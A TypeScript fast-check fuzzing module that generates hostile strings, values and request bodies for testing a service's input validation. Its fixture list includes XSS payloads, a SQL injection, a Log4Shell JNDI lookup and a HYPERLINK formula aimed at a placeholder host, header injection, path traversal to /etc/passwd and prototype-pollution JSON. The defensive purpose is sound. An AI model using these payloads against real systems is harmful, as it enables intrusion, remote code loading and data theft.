import * as fc from 'fast-check'

/** Texts that have broken somebody's program. */
const hostileTexts = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'x\udfffx',
  '\u202eabc',
  '\ufeff',
  '\u2028\u2029',
  `e${'\u0301'.repeat(500)}`,
  '👩‍👩‍👧‍👦'.repeat(60),
  'ﬃ',
  '１２３',
  'x'.repeat(501),
  'x'.repeat(1001),
  'x'.repeat(70_000),
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'true',
  '-1',
  '1e999',
  '9'.repeat(400),
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  "' OR '1'='1",
  '${jndi:ldap://havnes.example/x}',
  '{{7*7}}',
  '=HYPERLINK("https://havnes.example")',
  'a\r\nset-cookie: b=c',
  '../../../etc/passwd',
  '%00',
  '%E0%A4%A',
  '#',
  'a#b',
  ':vaktlinje',
  'it:it-1',
  'organization',
  '+4749000001',
  '+47'.padEnd(40, '0'),
  'tel:+4749000001',
  '2026-02-30T10:00',
  '2026-13-45T99:99',
  '2026-06-30T23:59:60Z',
  '0000-01-01T00:00',
  '9999-12-31T23:59:59Z',
  '9999-12-31T23:59',
  '2026-04-08T10:00+99:99',
  '2026-04-08T10:00-1200',
  '+010000-01-01T00:00Z',
  '0001-01-01T00:00+14:00',
] as const

const nested = (depth: number): unknown => {
  let value: unknown = 1
  for (let level = 0; level < depth; level += 1) value = [value]
  return value
}

/** A text that no honest client would send. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...hostileTexts) },
  fc.string({ unit: 'binary', maxLength: 60 }),
)

/** A value that no honest client would send. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: hostileText },
  fc.constantFrom<unknown>(null, true, false, 0, -0, -1, 0.1, 1e308, Number.MAX_SAFE_INTEGER, 2 ** 53, 5e-324),
  fc.constantFrom<unknown>([], {}, [[]], [null], { length: 3 }, { toString: null }, { __proto__: null, id: 'x' }),
  fc.constantFrom<unknown>(
    nested(400),
    Array.from({ length: 5000 }, () => 'x'),
    { units: 'x', everyone: true },
  ),
  fc.json().map((text): unknown => JSON.parse(text)),
)

/** Bodies that are not even JSON, or hardly. */
export const hostileBody: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '{',
    '{"a":',
    'null',
    '"text"',
    '[]',
    '0',
    '{"__proto__":{"criterion":"other"}}',
    '{"constructor":{"prototype":{}}}',
    '{"code":"AAAAAA","code":"BBBBBB"}',
    '\ufeff{}',
    '{}\u0000',
    '{} {}',
    'NaN',
    '<x/>',
    'a=b&c=d',
    '['.repeat(100_000),
    `{"a":`.repeat(20_000),
    `"${'x'.repeat(300_000)}"`,
    'a: &a [*a]',
    '!!js/function "x"',
  ),
  fc.string({ unit: 'binary', maxLength: 100 }),
)
